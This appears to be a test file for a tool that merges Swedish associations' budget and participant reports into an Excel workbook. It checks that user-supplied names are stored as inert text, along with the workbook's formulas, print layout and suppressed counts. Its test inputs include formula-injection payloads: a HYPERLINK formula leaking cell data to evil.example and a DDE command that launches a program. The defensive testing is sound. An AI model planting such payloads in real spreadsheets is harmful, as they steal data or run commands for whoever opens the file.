/**
 * The merged workbook read back cell by cell: only our formulas; an association's text, however
 * hostile, is a text cell (which Excel never runs) holding exactly what was sent, no apostrophe shown.
 */
import ExcelJS from "exceljs";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { mergedWorkbook } from "../../service/merged-workbook";
import { merge } from "../../shared/merge";
import { SUPPRESSED } from "../../shared/network";
import { WHOLE_HEMKOMMUN } from "../../shared/report";
import { budgetReport, participantsReport } from "./helpers";

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1,"Klicka")',
  "+SUM(1,2)",
  "-2+3",
  "@SUM(A1)",
  "=cmd|' /C calc'!A0",
  "\t=1+1",
  "\r\n=1",
  "=1+1",
];

/** A structured reference to a column of the comparison table: T[Name] or T[[Name with - or /]]. */
const REF = String.raw`Samsyn_natverk_(?:deltagare_)?\d{4}\[(?:[A-Za-zÅÄÖåäö ]+|\[[A-Za-zÅÄÖåäö /-]+\])\]`;
const SUM = String.raw`SUM\(${REF}\)`;
const HIDDEN = String.raw`COUNTIF\(${REF},"\.\."\)`;

/** Formulas the builder writes: cell references, SUM/SUMIF/IF/COUNTIF over the table, our own literals. */
const OUR_FORMULA = new RegExp(
  `^(?:${[
    String.raw`[A-Z]+\d+-[A-Z]+\d+`,
    String.raw`SUMIF\(D\d+:D\d+,"(?:Intäkter|Kostnader)",H\d+:H\d+\)`,
    String.raw`IF\(ISNUMBER\([A-Z]+\d+\),[A-Z]+\d+-[A-Z]+\d+,""\)`,
    String.raw`IF\(N\([A-Z]+\d+\)=0,"",[A-Z]+\d+\/[A-Z]+\d+\)`,
    SUM,
    String.raw`IF\(${SUM}=0,"",${SUM}\/${SUM}\)`,
    HIDDEN,
    String.raw`IF\(${HIDDEN}>0,"minst","exakt"\)`,
    String.raw`IF\(${HIDDEN}\+${HIDDEN}>0,"\.\.",IF\(${SUM}=0,"",${SUM}\/${SUM}\)\)`,
  ].join("|")})$`,
);

interface CellSeen {
  readonly where: string;
  readonly formula: string | null;
  readonly text: string | null;
}

async function cellsOf(buffer: Buffer): Promise<CellSeen[]> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(buffer as unknown as ArrayBuffer);
  const seen: CellSeen[] = [];
  for (const ws of wb.worksheets)
    ws.eachRow({ includeEmpty: false }, (row) =>
      row.eachCell({ includeEmpty: false }, (cell) => {
        const where = `${ws.name}!${cell.address}`;
        const v = cell.value;
        if (v !== null && typeof v === "object" && "formula" in v)
          seen.push({ where, formula: v.formula, text: null });
        else if (v !== null && typeof v === "object" && "sharedFormula" in v)
          seen.push({ where, formula: `shared:${String(v.sharedFormula)}`, text: null });
        else if (typeof v === "string") seen.push({ where, formula: null, text: v });
        else if (v !== null && typeof v === "object" && "richText" in v)
          seen.push({ where, formula: null, text: v.richText.map((r) => r.text).join("") });
      }),
    );
  return seen;
}

function unsafe(cells: readonly CellSeen[]): [string, string][] {
  return cells.flatMap((c): [string, string][] => {
    if (c.formula !== null) return OUR_FORMULA.test(c.formula) ? [] : [[c.where, `formula ${c.formula}`]];
    return [];
  });
}

function hostileBudgetView(strings: readonly string[], withOverride = true) {
  const associations = strings.map((s, i) => ({ id: `a${i}`, name: s }));
  const reports = strings.map((s, i) => ({
    associationId: `a${i}`,
    period: "2009",
    revision: 1,
    createdAt: "2009-11-30T00:00:00Z",
    report: {
      ...budgetReport({
        years: ["2009"],
        lines: [
          ["income", "medlemsbidrag", s, 1000 + i],
          ["cost", "insatser", `${s} (insats)`.slice(0, 500), 800],
          ["cost", "övrigt", s, 100],
        ],
      }),
      sheet: s,
      title: s,
    },
  }));
  return merge({
    kind: "budget",
    period: "2009",
    associations,
    reports,
    overrides: withOverride ? [{ associationId: "a0", label: strings[0]!, group: "styrelse" }] : [],
  });
}

describe("merged workbook", () => {
  it("When association names and labels are hostile, then no cell holds a foreign formula, and the text is kept as sent", async () => {
    const view = hostileBudgetView(HOSTILE);
    const cells = await cellsOf(await mergedWorkbook(view));
    expect(unsafe(cells)).toEqual([]);
    // The hostile text is there as text, exactly once neutralised (a text cell, no apostrophe), and our formulas too.
    expect(cells.filter((c) => c.text === HOSTILE[0]).length).toBeGreaterThan(0);
    expect(cells.filter((c) => c.text?.startsWith("'")).map((c) => c.where)).toEqual([]);
    // Eight associations in rows 6–13; the network totals one blank row under the table.
    expect(
      cells
        .filter((c) => c.where.startsWith("Jämförelse!") && c.formula?.startsWith("SUM("))
        .map((c) => c.where),
    ).toEqual(
      ["B15", "C15", "D15", "E15", "F15", "G15", "H15", "I15", "J15", "K15"].map((a) => `Jämförelse!${a}`),
    );
  });

  it("When the comparison sheet is read back, then it is a real table and the network row sums its columns with live formulas", async () => {
    const view = hostileBudgetView(["Ale", "Nora", "Lerum"], false);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load((await mergedWorkbook(view)) as unknown as ArrayBuffer);
    const ws = wb.getWorksheet("Jämförelse")!;
    const tables = (
      ws as unknown as { tables: Record<string, { table: { tableRef?: string; ref?: string } }> }
    ).tables;
    expect(Object.keys(tables)).toEqual(["Samsyn_natverk_2009"]);
    // The header row 5, the associations in rows 6–8, the network row 10. I Kostnader, J Intäkter, K Över-/underskott.
    expect(ws.getCell("A5").value).toBe("Förbund");
    const total = ws.getRow(10);
    expect([total.getCell(1).value, total.getCell(10).value, total.getCell(9).value]).toEqual([
      "Nätverket totalt",
      { formula: "SUM(Samsyn_natverk_2009[Intäkter])", result: 1000 + 1001 + 1002 },
      { formula: "SUM(Samsyn_natverk_2009[Kostnader])", result: 3 * 900 },
    ]);
    expect(total.getCell(11).value).toEqual({
      formula: "SUM(Samsyn_natverk_2009[[Över-/underskott]])",
      result: 1000 + 1001 + 1002 - 3 * 900,
    });
    expect(ws.getCell("K7").value).toEqual({ formula: 'IF(ISNUMBER(J7),J7-I7,"")', result: 1001 - 900 });
    expect(wb.worksheets.map((w) => w.name)).toEqual(["Jämförelse", "Ale", "Nora", "Lerum"]);
  });

  it("When it is printed, then every sheet is one page wide with its header row repeated and its title in the page header", async () => {
    const view = hostileBudgetView(["Ale & Kungälv", "Nora", "Lerum"], false);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load((await mergedWorkbook(view)) as unknown as ArrayBuffer);
    expect(wb.worksheets.length).toBe(4);
    for (const ws of wb.worksheets) {
      const { fitToPage, fitToWidth, fitToHeight, printTitlesRow } = ws.pageSetup;
      expect([ws.name, fitToPage, fitToWidth, fitToHeight]).toEqual([ws.name, true, 1, 0]);
      expect(printTitlesRow, ws.name).toMatch(/^\d+:\d+$/);
      expect(ws.headerFooter.oddHeader, ws.name).toMatch(/^&C\S/);
    }
    const comparison = wb.getWorksheet("Jämförelse")!;
    expect(comparison.pageSetup.orientation).toBe("landscape");
    // A literal & in the header is doubled: a single & starts one of Excel's header codes.
    expect(wb.worksheets.map((ws) => ws.headerFooter.oddHeader)).toContain("&CAle && Kungälv");
  });

  it("Property: any label or name, the workbook stays inert", async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.array(
          fc.oneof(
            fc.string({ minLength: 1, maxLength: 40 }),
            fc.constantFrom(...HOSTILE),
            fc.string({ minLength: 1, maxLength: 20 }).map((s) => `=${s}`),
          ),
          { minLength: 1, maxLength: 5 },
        ),
        async (strings) => {
          const names = strings.map((s) => (s.trim() === "" ? "x" : s));
          const cells = await cellsOf(await mergedWorkbook(hostileBudgetView(names)));
          expect(unsafe(cells)).toEqual([]);
        },
      ),
      { numRuns: 40 },
    );
  });

  it("When participant counts are suppressed, then the sheet shows '..' and the network total is the known sum, marked as a lower bound, with how many are hidden", async () => {
    const reports = [
      participantsReport("2014"),
      participantsReport("2014", { byKon: { kvinna: null, man: 12 }, byHemkommun: { Nora: 3 } }, [
        "byKon.kvinna",
      ]),
    ].map((report, i) => ({
      associationId: `a${i}`,
      period: "2014",
      revision: 1,
      createdAt: "2015-01-01T00:00:00Z",
      report,
    }));
    const view = merge({
      kind: "participants",
      period: "2014",
      associations: [
        { id: "a0", name: "Ale" },
        { id: "a1", name: "@Nora" },
      ],
      reports,
    });
    const buffer = await mergedWorkbook(view);
    expect(unsafe(await cellsOf(buffer))).toEqual([]);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(buffer as unknown as ArrayBuffer);
    const ws = wb.getWorksheet("Jämförelse")!;
    // Columns: Förbund, Deltagare, Nya, Avslutade, Till arbete eller studier, Andel, Kvinnor (G), Män (H) …
    // Rows: Ale 6, @Nora 7; the network 9, "Summan är" 10, hidden counts 11.
    expect([ws.getCell("A7").value, ws.getCell("G7").value, ws.getCell("H7").value]).toEqual([
      "@Nora",
      SUPPRESSED,
      12,
    ]);
    const kvinnor = "Samsyn_natverk_deltagare_2014[Kvinnor]";
    expect(["G9", "G10", "G11"].map((a) => ws.getCell(a).value)).toEqual([
      { formula: `SUM(${kvinnor})`, result: 22 },
      { formula: `IF(COUNTIF(${kvinnor},"..")>0,"minst","exakt")`, result: "minst" },
      { formula: `COUNTIF(${kvinnor},"..")`, result: 1 },
    ]);
    expect(["H9", "H10"].map((a) => ws.getCell(a).value)).toEqual([
      { formula: "SUM(Samsyn_natverk_deltagare_2014[Män])", result: 30 },
      { formula: 'IF(COUNTIF(Samsyn_natverk_deltagare_2014[Män],"..")>0,"minst","exakt")', result: "exakt" },
    ]);
    // The sheet's saved figures are the merge's: the known sum, a lower bound, one association hides it.
    expect(view.network.keyFigures.byKon).toEqual({
      kvinna: { value: 22, lowerBound: true, suppressedIn: 1 },
      man: { value: 30, lowerBound: false, suppressedIn: 0 },
    });
  });
  it("When an association withheld its hemkommun breakdown whole, then its sheet says so in one hidden line, naming no municipality", async () => {
    const view = merge({
      kind: "participants",
      period: "2014",
      associations: [{ id: "a0", name: "Ale" }],
      reports: [
        {
          associationId: "a0",
          period: "2014",
          revision: 1,
          createdAt: "2015-01-01T00:00:00Z",
          report: participantsReport("2014", { byHemkommun: {} }, [WHOLE_HEMKOMMUN]),
        },
      ],
    });
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load((await mergedWorkbook(view)) as unknown as ArrayBuffer);
    const ws = wb.getWorksheet("Ale")!;
    const rows: unknown[][] = [];
    ws.eachRow((row) => rows.push([row.getCell(1).value, row.getCell(2).value]));
    expect(rows.filter(([label]) => String(label).startsWith("Hemkommun"))).toEqual([
      ["Hemkommun", SUPPRESSED],
    ]);
  });
});
